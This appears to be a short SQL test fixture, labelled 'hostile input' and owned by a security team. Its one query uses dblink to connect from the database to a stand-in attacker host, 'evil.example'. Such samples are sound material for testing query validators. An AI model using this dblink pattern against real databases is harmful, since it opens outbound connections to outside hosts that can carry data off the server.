-- description: hostile input
-- owner: @security
-- group_size: n

SELECT count(*) AS n FROM dblink('host=evil.example', 'SELECT 1') AS t(x int)
